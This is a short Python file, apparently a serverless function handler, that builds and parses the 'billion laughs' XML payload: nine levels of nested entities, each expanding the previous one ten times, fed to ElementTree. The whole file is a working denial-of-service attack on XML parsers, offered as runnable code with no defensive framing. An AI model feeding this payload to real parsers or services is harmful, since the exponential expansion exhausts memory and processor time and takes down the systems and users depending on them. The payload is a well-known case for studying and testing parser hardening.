"""The billion laughs: entities of entities in XML."""

import xml.etree.ElementTree as tree


def handler(event, context):
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return len(tree.fromstring(f'<!DOCTYPE x [<!ENTITY l0 "laugh">{entities}]><x>&l9;</x>').text)
